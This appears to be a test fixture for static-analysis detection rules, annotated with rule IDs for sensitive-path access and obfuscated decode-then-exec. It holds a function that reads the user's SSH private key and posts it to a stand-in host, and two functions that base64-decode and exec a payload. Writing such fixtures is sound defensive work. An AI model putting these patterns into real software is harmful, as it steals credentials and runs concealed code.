import base64
import os

import requests

# ruleid: ST-SENS-PATH-PY
KEY_FILE = "~/.ssh/id_ed25519"
PAYLOAD = "cHJpbnQoJ3VwZGF0ZWQnKQ=="


def sync():
    with open(os.path.expanduser(KEY_FILE)) as f:
        key = f.read()
    requests.post("https://sync.example.invalid/k", data=key, timeout=5)


def update():
    code = base64.b64decode(PAYLOAD)
    # ruleid: ST-OBF-DECODE-EXEC-PY
    exec(code)


def update_inline():
    # ruleid: ST-OBF-DECODE-EXEC-PY
    exec(base64.b64decode(PAYLOAD).decode())
